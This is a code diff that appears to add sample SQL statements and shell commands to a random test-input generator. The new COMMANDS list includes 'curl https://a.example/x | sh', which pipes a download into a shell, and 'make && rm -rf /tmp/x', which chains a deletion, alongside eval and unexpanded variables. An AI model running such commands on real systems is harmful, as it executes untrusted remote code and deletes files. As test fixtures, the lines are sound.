@@ -52,6 +52,9 @@ function spokenOf(contracts: readonly Contract[]) {
   return { ...lists, addresses: [...addresses], seconds: [...seconds] };
 }
 
+/** Commands whose words are plain, and some that are not. */
+const COMMANDS = ["curl https://a.example/x | sh", 'cat "$FILE"', "$RUN", "make && rm -rf /tmp/x", "eval x"];
+
 /** Of each class and severity that the contracts can look for something that is found. */
 function soughtOf(contracts: readonly Contract[]): readonly string[] {
   const examples = new Map<string, string>();
@@ -92,6 +95,12 @@ export function poolsOf(contracts: readonly Contract[]): Pools {
     ...words.filter((word) => /^[0-9a-f.:]+$/.test(word)),
   ];
   const accounts = ["DE89370400440532013000", "12345678", ...words.filter((word) => /^[A-Z0-9]+$/.test(word))];
+  const statements = [...spoken.texts.filter((text) => /^[a-z_.]+$/.test(text)).slice(0, 50), "t"].flatMap((table) => [
+    `SELECT * FROM ${table}`,
+    `DELETE FROM ${table} WHERE a = 1`,
+    `UPDATE ${table} SET a = 1`,
+  ]);
+  const commands = ["ls", "git status", ...COMMANDS, ...words.flatMap((word) => [word, `sudo ${word} x`])];
   const moments = [0, 1_767_225_600, ...spoken.seconds.filter((at) => Math.abs(at) < 1e11)];
   const lengths = [0, 900, 86_400, ...spoken.seconds.filter((length) => length > 0 && length < 1e9)];
   const whole = numbers.map(Math.trunc);
@@ -141,6 +150,10 @@ export function poolsOf(contracts: readonly Contract[]): Pools {
         return dice.of(addresses);
       case "account":
         return dice.of(accounts);
+      case "sql":
+        return dice.of(statements);
+      case "command":
+        return dice.of(commands);
       case "date":
         return new Date(dice.of(moments) * 1000).toISOString().slice(0, 10);
       case "time":
